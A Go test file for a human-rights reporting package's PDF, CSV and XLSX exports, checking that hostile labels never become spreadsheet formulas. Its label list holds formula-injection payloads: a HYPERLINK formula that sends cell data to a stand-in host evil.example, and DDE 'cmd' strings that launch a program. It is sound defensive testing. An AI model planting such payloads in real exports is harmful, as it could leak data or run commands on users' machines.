package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/haki-kenya/haki"
)

// hostileLabels are vocabulary, county and station labels someone could
// have typed: formulas, emoji, astral characters, NUL, invalid UTF-8,
// right-to-left marks and a very long word.
var hostileLabels = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+254700000111",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"Kayole 😀 police station 🇰🇪",
	"𝕳𝖆𝖐𝖎 \U0010FFFD",
	"NUL\x00byte",
	"bad \xff\xfe utf-8",
	"\u202eenoZ\u202c \u200fRTL",
	strings.Repeat("Kwamaiko", 200),
}

// hostileReport is a report of each kind whose every label is label.
func hostileReports(label string) []*haki.Report {
	at := time.Date(2026, 3, 14, 9, 30, 0, 0, time.UTC)
	f := haki.ReportFilter{From: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC), To: time.Date(2025, 12, 31, 0, 0, 0, 0, time.UTC),
		CountyCode: "KE-047", IncidentType: "torture", Context: "protest", Sex: "female", Bands: haki.DefaultAgeBands()}
	std := &haki.Report{Name: haki.ReportExecutions, Filter: f, GeneratedAt: at, Victims: haki.Count{N: 12}, Incidents: haki.Count{N: 9},
		PrevVictims: haki.Count{N: 10}, SuppressBelow: 5, Accountability: &haki.Accountability{Available: true}}
	for _, by := range []string{haki.ByMonth, haki.ByCounty, haki.BySex, haki.ByMethod, haki.ByContext, haki.ByInstitution, haki.ByFate} {
		std.Tables = append(std.Tables, haki.ReportTable{By: by, Rows: []haki.ReportRow{
			{Code: "2025-03", Label: label, Victims: haki.Count{N: 7}, Incidents: haki.Count{N: 5}},
			{Code: "x", Label: label, Victims: haki.Count{Suppressed: true}, Incidents: haki.Count{Suppressed: true}}}})
	}
	fig := &haki.Report{Name: haki.ReportIndicators, Filter: f, GeneratedAt: at, SuppressBelow: 5, Figures: &haki.Figures{
		Rules:   []string{"report.services.rule.survivors"},
		Summary: []haki.Figure{{Key: "services", Value: haki.Count{N: 40}}},
		Tables: []haki.FigTable{{By: "indicator", Columns: []haki.FigColumn{{Key: "value"}, {Key: "target", Unit: haki.UnitNumber}},
			Rows: []haki.FigRow{{Code: "i1", Label: label, Values: []haki.Count{{N: 9}, {N: 20}}}}}}}}
	return []*haki.Report{std, fig}
}

func labelsReturning(label string) Labels {
	return Labels{Lang: "en",
		T:      func(key string, args ...any) string { return key + fmt.Sprint(args...) },
		Term:   func(vocab, code string) string { return label },
		County: func(code string) string { return label }}
}

// Every PDF is made whatever the labels hold.
func TestWritePDFHostileLabels(t *testing.T) {
	for _, label := range hostileLabels {
		for _, r := range hostileReports(label) {
			var buf bytes.Buffer
			if err := WritePDF(&buf, Build(r, labelsReturning(label))); err != nil {
				t.Fatalf("%s with label %q: %v", r.Name, label[:min(len(label), 30)], err)
			}
			if !bytes.HasPrefix(buf.Bytes(), []byte("%PDF-")) {
				t.Fatalf("%s with label %q: not a PDF", r.Name, label[:min(len(label), 30)])
			}
		}
	}
}

// formulaStart reports whether a spreadsheet would read cell as a formula.
func formulaStart(cell string) bool {
	t := strings.TrimLeft(cell, " \u00a0")
	return t != "" && strings.ContainsRune("=+-@\t\r\n", rune(t[0])) && !isNumber(t)
}

func isNumber(s string) bool {
	var f float64
	_, err := fmt.Sscanf(strings.NewReplacer(",", "", "%", "").Replace(s), "%g", &f)
	return err == nil && strings.Trim(s, "+-0123456789.,%") == ""
}

// No cell of the CSV export starts a formula, whatever the labels hold.
func TestWriteCSVHostileLabels(t *testing.T) {
	for _, label := range hostileLabels {
		for _, r := range hostileReports(label) {
			var buf bytes.Buffer
			if err := WriteCSV(&buf, Build(r, labelsReturning(label))); err != nil {
				t.Fatal(err)
			}
			cr := csv.NewReader(&buf)
			cr.FieldsPerRecord = -1
			rows, err := cr.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, row := range rows {
				for _, cell := range row {
					if formulaStart(cell) {
						t.Errorf("%s: cell %q would run as a formula", r.Name, cell)
					}
					found = found || strings.Contains(cell, strings.TrimLeft(label, "\t")[:min(len(label)-1, 8)])
				}
			}
			if !found && !strings.ContainsAny(label, "\x00\xff") {
				t.Errorf("%s: the label %q is not in the CSV", r.Name, label[:min(len(label), 30)])
			}
		}
	}
}

// The workbook holds labels as text cells, never as formulas.
func TestWriteXLSXHostileLabels(t *testing.T) {
	for _, label := range hostileLabels {
		for _, r := range hostileReports(label) {
			var buf bytes.Buffer
			if err := WriteXLSX(&buf, Build(r, labelsReturning(label))); err != nil {
				t.Fatalf("%s with label %q: %v", r.Name, label[:min(len(label), 30)], err)
			}
			x, err := excelize.OpenReader(&buf)
			if err != nil {
				t.Fatal(err)
			}
			for _, sheet := range x.GetSheetList() {
				rows, err := x.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for i, row := range rows {
					for j := range row {
						cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
						if f, _ := x.GetCellFormula(sheet, cell); f != "" {
							t.Errorf("%s %s!%s holds the formula %q", r.Name, sheet, cell, f)
						}
					}
				}
			}
			x.Close()
		}
	}
}
